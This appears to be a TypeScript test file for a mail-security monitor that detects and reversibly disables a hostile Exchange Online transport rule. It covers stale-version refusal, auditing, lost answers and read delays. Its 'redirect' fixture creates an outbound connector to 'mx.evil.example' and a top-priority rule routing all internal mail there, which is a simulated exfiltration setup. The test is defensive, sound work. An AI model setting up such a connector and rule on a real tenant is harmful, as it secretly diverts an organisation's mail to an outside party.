// A rule of an attacker is switched off on the administrator's word: shown, applied, verified, and taken back again.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { sql } from 'kysely'
import { installation } from '#test/support/installation.ts'
import { alerts, asAdmin, check, connectionState, findings, watched, type Watched } from './watch.ts'

interface ShownCall {
  cmdlet: string
  powerShell: string
}
interface ShownAct {
  id: string
  state: string
  doneBy: string
  verifiedAt: string | null
  undoneBy: string | null
}

const name = 'Quiet copy'
const stateOf = async (watch: Watched, rule = name) =>
  (await asAdmin(watch, 'Get-TransportRule', { Identity: rule }))[0]!['State']

async function redirect(watch: Watched): Promise<void> {
  await asAdmin(watch, 'New-OutboundConnector', {
    Name: name,
    ConnectorType: 'OnPremises',
    SmartHosts: ['mx.evil.example'],
    UseMXRecord: false,
    IsTransportRuleScoped: true,
    TlsSettings: 'EncryptionOnly',
  })
  await asAdmin(watch, 'New-TransportRule', {
    Name: name,
    Priority: 0,
    SentToScope: 'InOrganization',
    RouteMessageOutboundConnector: name,
  })
}

test('a foreign rule is switched off and on again', async (t) => {
  const made = await installation(t)
  const watch = await watched(made)
  await redirect(watch)
  const found = (await check(watch)).findings.find(({ code }) => code === 'foreign.redirect-above')!
  const path = `${watch.path}/findings/${found.id}/disable`
  let act: ShownAct

  await t.test('what would be done is shown, with what takes it back; nothing is changed by looking', async () => {
    const plan = await made.api<{ text: string; version: string; act: ShownCall; undo: ShownCall }>('GET', path)
    assert.match(plan.text, /Switch the mail flow rule “Quiet copy” off/)
    assert.match(plan.act.powerShell, /^Disable-TransportRule -Identity '[0-9a-f-]{36}' -Confirm:\$false$/)
    assert.match(plan.undo.powerShell, /^Enable-TransportRule -Identity '[0-9a-f-]{36}' -Mode 'Enforce'$/)
    assert.equal(await stateOf(watch), 'Enabled')
  })

  await t.test('a rule that was changed after it was shown is not touched', async () => {
    const { version } = await made.api<{ version: string }>('GET', path)
    await asAdmin(watch, 'Set-TransportRule', { Identity: name, SubjectContainsWords: ['invoice'] })
    await assert.rejects(made.api('POST', path, { version }), /409 .*was changed since it was shown/)
    assert.equal(await stateOf(watch), 'Enabled')
  })

  await t.test('it is switched off, seen to be off, and the finding and its alert are over', async () => {
    const { version } = await made.api<{ version: string }>('GET', path)
    act = await made.api<ShownAct>('POST', path, { version })
    assert.equal(act.state, 'done')
    assert.ok(act.verifiedAt !== null)
    assert.equal(await stateOf(watch), 'Disabled')
    assert.equal((await findings(watch)).find(({ id }) => id === found.id)?.state, 'repaired-by-admin')
    assert.ok(!(await alerts(watch)).some(({ data, state }) => data['findingId'] === found.id && state === 'open'))
    await assert.rejects(made.api('GET', path), /409 .*closed/)
    const { rows } = await made.app.platform!.db.inTenant(watch.tenantId, (trx) =>
      sql<{ action: string; target: string }>`select action, target from audit_entry`.execute(trx),
    )
    assert.ok(
      rows.some((entry) => entry.action === 'mailflow.foreign.disable' && entry.target === 'rule Quiet copy'),
      'audited',
    )
  })

  await t.test('the next look takes it for nobody’s tampering', async () => {
    await made.advance(2 * 60_000)
    const seen = await check(watch)
    assert.deepEqual(
      seen.findings.filter(({ severity }) => severity === 'high').map(({ code, objectName }) => [code, objectName]),
      [],
    )
    assert.notEqual(await connectionState(watch), 'broken')
  })

  await t.test('it is switched on again, and found again', async () => {
    const undone = await made.api<ShownAct>('POST', `${watch.path}/acts/${act.id}/undo`)
    assert.equal(undone.state, 'undone')
    assert.equal(await stateOf(watch), 'Enabled')
    await assert.rejects(made.api('POST', `${watch.path}/acts/${act.id}/undo`), /409 .*taken back already/)
    const again = (await check(watch)).findings.find(({ code }) => code === 'foreign.redirect-above')
    assert.equal(again?.objectName, name)
    assert.equal((await made.api<{ items: ShownAct[] }>('GET', `${watch.path}/acts`)).items.length, 1)
  })

  await t.test('a call whose answer is lost is read back, not repeated', async () => {
    const again = (await check(watch)).findings.find(({ code }) => code === 'foreign.redirect-above')!
    const here = `${watch.path}/findings/${again.id}/disable`
    const { version } = await made.api<{ version: string }>('GET', here)
    made.emulator.world.faults.push({
      service: 'exchange',
      match: 'Disable-TransportRule',
      times: 1,
      effect: { kind: 'lost-answer' },
    })
    const done = await made.api<ShownAct>('POST', here, { version })
    assert.equal(done.state, 'done')
    assert.ok(done.verifiedAt !== null)
    assert.equal(await stateOf(watch), 'Disabled')
  })

  await t.test('while Exchange Online does not show it yet, the finding stays; the next look closes it', async () => {
    const [last] = (await made.api<{ items: ShownAct[] }>('GET', `${watch.path}/acts`)).items
    await made.api('POST', `${watch.path}/acts/${last!.id}/undo`)
    const again = (await check(watch)).findings.find(({ code }) => code === 'foreign.redirect-above')!
    const here = `${watch.path}/findings/${again.id}/disable`
    await made.advance(60_000)
    const { version } = await made.api<{ version: string }>('GET', here)
    const { switches } = made.emulator.tenant('Contoso')
    switches.exchangeReadDelay_ms = 30_000
    const done = await made.api<ShownAct>('POST', here, { version })
    assert.equal(done.verifiedAt, null)
    assert.equal((await findings(watch)).find(({ id }) => id === again.id)?.state, 'open')
    await made.advance(31_000)
    await check(watch)
    switches.exchangeReadDelay_ms = 0
    assert.equal((await findings(watch)).find(({ id }) => id === again.id)?.state, 'repaired-by-admin')
    const { items } = await made.api<{ items: ShownAct[] }>('GET', `${watch.path}/acts`)
    assert.ok(items[0]!.verifiedAt !== null)
  })

  await t.test('what is gone cannot be switched on again; what is ours cannot be switched off', async () => {
    const { items } = await made.api<{ items: ShownAct[] }>('GET', `${watch.path}/acts`)
    await asAdmin(watch, 'Remove-TransportRule', { Identity: name, Confirm: false })
    await assert.rejects(
      made.api('POST', `${watch.path}/acts/${items[0]!.id}/undo`),
      /409 .*is gone: there is nothing to switch/,
    )
    await asAdmin(watch, 'Disable-TransportRule', { Identity: 'Mailwarden 30 - Scan inbound', Confirm: false })
    const ours = (await check(watch)).findings.find(({ code }) => code === 'object.disabled')!
    await assert.rejects(made.api('GET', `${watch.path}/findings/${ours.id}/disable`), /409 .*somebody else/)
  })
})
